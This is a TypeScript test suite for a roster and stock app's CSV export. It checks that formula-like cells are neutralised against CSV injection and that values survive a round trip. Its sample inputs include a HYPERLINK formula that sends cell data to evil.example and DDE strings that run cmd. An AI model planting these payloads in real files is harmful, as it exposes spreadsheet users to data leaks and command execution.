import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { fromCsvCell, toCsvCell } from '../../../src/domain/csv-cell';
import { staffCsvColumns, validateStaffCsv } from '../../../src/domain/roster/staff-csv';
import { validateStockCsv } from '../../../src/domain/resources/stock-import';
import { csvParseOptions, toCsvText } from '../../../src/renderer/lib/csv';
import { staffCsv } from '../../../src/renderer/features/roster/staff-csv-file';
import { makeStaffRow } from '../../fixtures/roster';

/** Cells a spreadsheet would run, cells that look like escapes, and ordinary text that must come back as it was. */
const nasty = [
  '=1+1',
  '=HYPERLINK("http://evil.example/?d="&A1,"click")',
  "=cmd|' /C calc'!A0",
  '+86 138 0000 0000',
  '-2+3+cmd|" /C calc"!A0',
  '-',
  '-5',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '=1+1\n=2+2',
  "'=1+1",
  "''@x",
  "'",
  "'abc",
  "it's",
  'a,b;c',
  'say "hi"',
  'ED 储备库',
  '',
];

/** What a spreadsheet sees: the cells as written, without our import's unescaping. */
function rawCells(text: string): string[][] {
  return Papa.parse<string[]>(text.replace(/^\uFEFF/, ''), { skipEmptyLines: 'greedy' }).data;
}

const startsAFormula = (cell: string) => /^[=+\-@\t\r]/.test(cell);

describe('CSV formula neutralising (OWASP CSV injection)', () => {
  it.each(nasty)('writes %j so no spreadsheet reads it as a formula, and reads it back unchanged', (value) => {
    // A second column, so an empty value is still a row (blank lines are skipped on import).
    const text = toCsvText(['value', 'n'], [[value, 1]]);
    const cell = rawCells(text)[1]?.[0] ?? '';
    expect(startsAFormula(cell)).toBe(false);
    const back = Papa.parse<Record<string, string>>(text.replace(/^\uFEFF/, ''), csvParseOptions((h) => h));
    expect(back.data[0]?.value).toBe(value);
  });

  it('adds an apostrophe only before a formula trigger, and removes one only there', () => {
    expect(toCsvCell('=1')).toBe("'=1");
    expect(toCsvCell("'=1")).toBe("''=1");
    expect(toCsvCell("'abc")).toBe("'abc");
    expect(fromCsvCell("'abc")).toBe("'abc");
    expect(fromCsvCell("''=1")).toBe("'=1");
  });

  it('writes numbers, negative ones included, as numbers', () => {
    expect(toCsvCell(-5)).toBe('-5');
    expect(rawCells(toCsvText(['qty'], [[-5], [12]]))).toEqual([['qty'], ['-5'], ['12']]);
  });

  it('exports a staff directory with formula-like names and phone numbers that no spreadsheet runs, and imports it back equal', () => {
    const staff = [
      makeStaffRow(1, { name: '=HYPERLINK("http://evil.example","Dr Li")', phone: '+86 138 0000 0000' }),
      makeStaffRow(2, { name: '@Wang', department: '-Surgery' }),
      makeStaffRow(3, { name: "'=already quoted" }),
    ];
    const text = staffCsv(staff.map(({ id: _id, ...fields }) => fields));
    for (const row of rawCells(text)) for (const cell of row) expect(startsAFormula(cell)).toBe(false);
    const parsed = Papa.parse<Record<string, string>>(text.replace(/^\uFEFF/, ''), csvParseOptions((h) => h.trim().toLowerCase()));
    const checked = validateStaffCsv(parsed.meta.fields ?? [], parsed.data);
    expect(checked).toEqual({ ok: true, rows: staff.map(({ id: _id, ...fields }) => fields) });
    expect(parsed.meta.fields).toEqual([...staffCsvColumns]);
  });

  it('round-trips a stock file whose item and store names start with formula characters', () => {
    const rows = [['=SUM(A1)', 'ppe', 'each', '@Central', 12, 100, 40, 10], ['-Gauze', 'other', 'box', '+ED', 0, 5, 2, 1]];
    const text = toCsvText(['item', 'category', 'unit', 'store', 'qty', 'par', 'yellowAt', 'redAt'], rows);
    const parsed = Papa.parse<Record<string, string>>(text.replace(/^\uFEFF/, ''), csvParseOptions((h) => h.trim()));
    const checked = validateStockCsv(parsed.meta.fields ?? [], parsed.data, () => '01900000-0000-7000-8000-000000000000');
    if (!checked.ok) throw new Error(JSON.stringify(checked.errors));
    expect(checked.rows.map((r) => [r.item, r.category, r.unit, r.store, r.qty, r.par, r.yellowAt, r.redAt])).toEqual(rows);
  });
});
